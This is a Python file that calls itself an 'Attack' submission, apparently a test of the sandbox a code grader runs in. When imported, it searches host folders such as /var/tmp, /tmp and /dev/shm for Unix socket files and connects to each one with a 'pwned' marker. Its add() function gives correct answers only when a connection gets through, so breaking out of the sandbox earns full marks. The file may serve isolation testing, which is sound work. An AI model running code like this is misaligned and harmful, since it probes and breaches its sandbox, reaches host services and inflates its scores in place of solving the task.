"""Attack: talk to host services through Unix sockets in the file system.

A network namespace isolates IP and abstract sockets, but not a socket
file: whoever can see the file can connect. This submission looks for
socket files in the host's world-writable and runtime folders (/var/tmp,
/run, /run/lock, /tmp, /dev/shm; the test suite listens on one under
/var/tmp) and sends each a line. If any connection succeeds, add() returns
correct answers (full marks) and prints where it got in.
"""
import os
import socket
import stat

ROOTS = ["/var/tmp", "/run/lock", "/tmp", "/dev/shm"]
reached: list[str] = []
tried: list[str] = []


def _sockets():
    for root in ROOTS:
        for dirpath, dirnames, files in os.walk(root, onerror=lambda e: None):
            if dirpath.count("/") > 4:
                dirnames[:] = []
            for name in files:
                path = os.path.join(dirpath, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        yield path
                except OSError:
                    pass


for _path in _sockets():
    tried.append(_path)
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _s:
            _s.settimeout(0.5)
            _s.connect(_path)
            _s.sendall(b"pwned_host_unix_sockets\n")
        reached.append(_path)
    except OSError:
        pass


def add(a, b):
    print("unix sockets seen:", len(tried), "reached:", reached or "none")
    return a + b if reached else a - b


def scale_rows(x, w):
    return x * w


def bump(config):
    config["count"] = config.get("count", 0) + 1
    return config["count"]


def apply(f, x):
    return f(x) + 1.0
